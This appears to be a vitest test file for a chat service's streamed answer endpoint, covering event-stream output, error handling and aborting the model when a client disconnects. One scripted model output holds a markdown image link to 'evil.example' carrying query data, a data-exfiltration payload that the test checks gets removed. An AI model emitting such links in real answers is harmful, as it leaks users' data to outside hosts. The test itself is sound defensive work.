import type { AddressInfo } from 'node:net'
import { createAdaptorServer } from '@hono/node-server'
import { describe, expect, onTestFinished, test } from 'vitest'
import { scriptedModel } from '../../../test/scripted-model.ts'
import { testApp, wireMessages } from '../../../test/test-app.ts'
import { useDatabase } from '../../../test/with-db.ts'
import { AppError } from '../../domain/errors.ts'
import type { LanguageModel, ModelCall } from '../../models/language-model.ts'

/* Over a real socket: what a client sees, and what happens when it goes away. */

const db = useDatabase()

async function serving(model: LanguageModel) {
  const app = await testApp(await db.fresh(), { engine: { model } })
  const key = await app.keyFor('staff')
  const server = createAdaptorServer({ fetch: app.api.fetch })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const { port } = server.address() as AddressInfo
  await app.send('POST', '/api/messages', wireMessages({ text: 'The hall is booked' }))
  const ask = (body: object, signal?: AbortSignal) =>
    fetch(`http://127.0.0.1:${port}/api/ask`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${key}` },
      body: JSON.stringify({ query: '@bot', thread_id: 'api:team', ...body }),
      ...(signal === undefined ? {} : { signal }),
    })
  return { ...app, ask }
}

type Event = { readonly event: string; readonly data: Record<string, unknown> }

function eventsIn(text: string): Event[] {
  return text
    .split('\n\n')
    .filter((block) => block.trim() !== '')
    .map((block) => ({
      event: /^event: (.*)$/m.exec(block)?.[1] ?? '',
      data: JSON.parse(/^data: (.*)$/m.exec(block)?.[1] ?? 'null'),
    }))
}

/** A model that streams piece by piece, and then stops, fails or never ends. */
function writing(
  pieces: readonly string[],
  end: (call: ModelCall) => Promise<void>,
): LanguageModel {
  return {
    ...scriptedModel({}),
    complete: async (call) => {
      for (const piece of pieces) call.onText?.(piece)
      await end(call)
      return scriptedModel({ answer: pieces.join('') }).complete({ ...call, onText: undefined })
    },
  }
}

describe('a streamed answer', () => {
  test('comes in pieces, cleaned, and then whole with its trace', async () => {
    const model = writing(
      ['bot: It is', ' booked [1]', '. Also ![x](https://evil.example/?q=hall)', ' [9] fine.'],
      async () => undefined,
    )
    const { ask } = await serving(model)
    const reply = await ask({ stream: true })
    expect(reply.headers.get('content-type')).toMatch('text/event-stream')
    const events = eventsIn(await reply.text())
    expect(events.at(-1)?.event).toBe('answer')
    const told = events
      .filter(({ event }) => event === 'text')
      .map(({ data }) => data.text)
      .join('')
    expect(told).not.toMatch(/evil|bot:|\[9\]/)
    expect(told.replaceAll(/\s+/g, ' ')).toContain('It is booked [1].')
    const { answer, answer_id, citations } = events.at(-1)?.data ?? {}
    expect(answer).toBe('It is booked [1]. Also x fine.')
    expect(answer_id).toEqual(expect.any(String))
    expect(citations).toHaveLength(1)
  })

  test('what fails before the first word has its status; what breaks off later is an event', async () => {
    const down = () => Promise.reject(new AppError('model_unavailable', 'The model is away.'))
    const early = await serving(writing([], down))
    const refused = await early.ask({ stream: true })
    expect(refused.status).toBe(503)
    expect(await refused.json()).toMatchObject({ code: 'model_unavailable' })
    const late = await serving(writing(['It is booked. And '], down))
    const events = eventsIn(await (await late.ask({ stream: true })).text())
    expect(events.map(({ event }) => event)).toEqual(['text', 'error'])
    expect(events[1]?.data).toMatchObject({ code: 'model_unavailable', status: 503 })
  })

  test.each([true, false])(
    'a client that goes away stops the model (stream: %s)',
    async (stream) => {
      let stopped: () => void = () => undefined
      const isStopped = new Promise<void>((resolve) => {
        stopped = resolve
      })
      let begun: () => void = () => undefined
      const hasBegun = new Promise<void>((resolve) => {
        begun = resolve
      })
      const never = (call: ModelCall) =>
        new Promise<void>((_, fail) => {
          call.signal?.addEventListener('abort', () => {
            stopped()
            fail(new AppError('model_unavailable', 'stopped'))
          })
          begun()
        })
      const { ask, logged } = await serving(writing(['It is booked. And then '], never))
      const gone = new AbortController()
      const reply = ask({ stream }, gone.signal).catch(() => undefined)
      await hasBegun
      gone.abort()
      // If the call were not aborted, this would wait until the test's timeout.
      await isStopped
      await reply
      // Logged apart from a failure: it needs no alert.
      while (!logged().includes('question.failed')) await new Promise((next) => setImmediate(next))
      expect(logged()).toContain('"code":"cancelled"')
      expect(logged()).not.toContain('request.failed')
    },
  )
})
